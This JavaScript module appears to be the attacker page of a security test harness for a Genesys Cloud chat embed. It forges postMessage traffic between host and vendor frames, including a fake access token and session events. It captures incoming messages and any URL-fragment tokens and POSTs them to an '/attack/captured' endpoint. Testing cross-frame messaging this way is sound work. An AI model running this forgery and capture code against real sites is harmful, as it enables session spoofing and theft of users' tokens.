/** What an attacker without a foothold can do: post messages to any window it can reach, and report what it receives. */

const NAMESPACE = "genesys-cloud-embed:";

/** Forged messages of the vendor's page to its host. */
const TO_HOST = [
  { type: `${NAMESPACE}ready` },
  { type: `${NAMESPACE}session-start`, userId: "mallory" },
  { type: `${NAMESPACE}queue-position`, position: 1, total: 2 },
  { type: `${NAMESPACE}interaction-end`, interactionId: "forged" },
  { type: `${NAMESPACE}token-expiring`, expiresIn: 1 },
];

/** Forged messages of the host to the vendor's page. */
const TO_VENDOR = [
  { type: "ack", status: "received" },
  { type: `${NAMESPACE}token`, accessToken: "forged", expiresIn: 3600 },
];

let sent = 0;
let captured = 0;

/**
 * @param {string} id
 * @param {number} count
 */
function show(id, count) {
  const element = document.getElementById(id);
  if (element !== null) {
    element.textContent = String(count);
  }
}

/**
 * @param {Window} target
 * @param {unknown[]} messages
 */
function post(target, messages) {
  for (const message of messages) {
    target.postMessage(message, "*");
    sent += 1;
  }
  show("sent", sent);
}

/**
 * One round: every forgery to the host, and the host's own commands to each of its other frames.
 *
 * @param {Window} host
 */
export function attack(host) {
  post(host, TO_HOST);
  for (let index = 0; index < host.length; index += 1) {
    const frame = host[index];
    if (frame !== undefined && frame !== window) {
      post(frame, TO_VENDOR);
    }
  }
}

/**
 * @param {Window} host
 * @param {number} rounds
 * @param {number} everyMs
 */
export function keepAttacking(host, rounds, everyMs) {
  let left = rounds;
  const timer = setInterval(() => {
    left -= 1;
    if (left < 0) {
      clearInterval(timer);
      document.body.dataset.state = "done";
    } else {
      attack(host);
    }
  }, everyMs);
}

/**
 * @param {string} page
 * @param {string} origin
 * @param {unknown} data
 */
function report(page, origin, data) {
  captured += 1;
  show("captured", captured);
  const body = JSON.stringify({ page, origin, data: data ?? null });
  void fetch("/attack/captured", {
    method: "POST",
    headers: { "content-type": "application/json" },
    body,
    keepalive: true,
  });
}

/**
 * Reports every message, and the fragment that a redirect left in the page's URL.
 *
 * @param {string} page
 */
export function captureAll(page) {
  addEventListener("message", (event) => report(page, event.origin, event.data));
  if (location.hash !== "") {
    report(page, "url", location.hash);
  }
}

/**
 * A number from the page's query.
 *
 * @param {string} name
 * @param {number} otherwise
 */
export function numberParameter(name, otherwise) {
  const text = new URLSearchParams(location.search).get(name);
  return text === null ? otherwise : Number(text);
}
